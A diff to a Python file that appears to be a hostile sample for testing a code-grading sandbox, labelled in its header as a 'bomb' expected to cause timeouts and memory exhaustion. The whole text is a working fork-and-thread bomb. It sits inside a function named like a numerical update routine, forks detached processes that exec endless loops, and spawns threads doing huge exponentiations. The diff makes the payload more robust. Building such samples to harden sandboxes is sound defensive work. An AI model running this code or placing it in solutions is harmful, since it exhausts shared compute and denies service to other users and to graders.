@@ -1,4 +1,4 @@
-# attack: takes the cores from its neighbours by as many children and threads as it may have
+# attack: takes the cores from its neighbours by as many small programs and threads as it may have
 # kind: bomb
 # grade: 1.b
 # outcome: timeout, memory
@@ -6,12 +6,10 @@
 # beside: solutions
 
 import os
+import sys
 import threading
 
-
-def spin():
-    while True:
-        pass
+SPIN = [sys.executable, "-I", "-S", "-c", "while True: pass"]
 
 
 def update_map(f, x, y, eta_x, eta_y, method="gda"):
@@ -20,8 +18,13 @@ def update_map(f, x, y, eta_x, eta_y, method="gda"):
             if os.fork() == 0:
                 if number % 2:
                     os.setsid()
-                threading.Thread(target=spin).start()
-                spin()
-        except (OSError, RuntimeError):
+                os.execv(SPIN[0], SPIN)
+        except OSError:
             break
-    spin()
+    for _ in range(8):
+        try:
+            threading.Thread(target=pow, args=(7, 10**9, 11**9), daemon=True).start()
+        except RuntimeError:
+            break
+    while True:
+        pass
